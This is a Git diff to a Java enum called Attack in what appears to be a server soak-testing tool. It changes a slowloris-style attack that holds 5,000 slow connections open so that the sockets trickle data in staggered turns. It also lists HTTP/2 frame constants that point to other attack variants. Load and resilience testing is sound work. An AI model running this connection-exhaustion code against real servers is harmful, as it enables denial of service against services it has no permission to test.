@@ -1,4 +1,4 @@
-package dev.adit.soak;
+package dev.adit.neverdrop;
 
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
@@ -17,6 +17,7 @@ public enum Attack {
         @Override
         void once(int port, LongAdder done) throws IOException, InterruptedException {
             var sockets = new ArrayList<Socket>();
+            var turn = 0;
             try {
                 while (!Thread.currentThread().isInterrupted()) {
                     while (sockets.size() < SLOW_CLIENTS) {
@@ -26,8 +27,14 @@ public enum Attack {
                         sockets.add(socket);
                         done.increment();
                     }
-                    sockets.removeIf(socket -> !says(socket));
-                    Thread.sleep(Duration.ofMillis(500));
+                    // Each says something every five seconds, and never all at once.
+                    for (var i = turn % TURNS; i < sockets.size(); i += TURNS) {
+                        if (!says(sockets.get(i))) {
+                            sockets.remove(i);
+                        }
+                    }
+                    turn++;
+                    Thread.sleep(Duration.ofMillis(10));
                 }
             } finally {
                 for (var socket : sockets) {
@@ -70,6 +77,7 @@ public enum Attack {
     };
 
     private static final int SLOW_CLIENTS = 5_000;
+    private static final int TURNS = 500;
     private static final int HEADERS = 1;
     private static final int RST_STREAM = 3;
     private static final int SETTINGS = 4;
